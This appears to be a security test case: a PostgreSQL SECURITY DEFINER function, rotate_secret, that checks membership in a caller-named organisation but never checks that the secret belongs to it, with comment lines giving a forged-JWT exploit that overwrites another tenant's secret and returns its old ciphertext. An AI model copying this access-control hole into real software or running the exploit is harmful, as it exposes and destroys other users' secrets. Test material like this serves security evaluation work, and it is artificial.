-- The function checks the organization that the caller names, and changes the item that he names.
-- about: rotate_secret, secrets
-- as: hf_vault_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: SELECT rotate_secret('11111111-1111-1111-1111-111111111111',
-- exploit: '22222222-0000-0000-0000-000000000002', 'mine now');
-- shows: Road-secret-cipher
-- Gives the old text back, for the undo button.
CREATE FUNCTION rotate_secret(org uuid, item uuid, fresh text) RETURNS text
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
DECLARE old text;
BEGIN
  IF NOT has_role(org, 'member') THEN
    RAISE EXCEPTION 'not allowed';
  END IF;
  SELECT s.ciphertext INTO old FROM secrets s WHERE s.item_id = item FOR UPDATE;
  UPDATE secrets s SET ciphertext = fresh, rotated_at = now() WHERE s.item_id = item;
  RETURN old;
END
$$;
REVOKE EXECUTE ON FUNCTION rotate_secret(uuid, uuid, text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION rotate_secret(uuid, uuid, text) TO hf_vault_app;
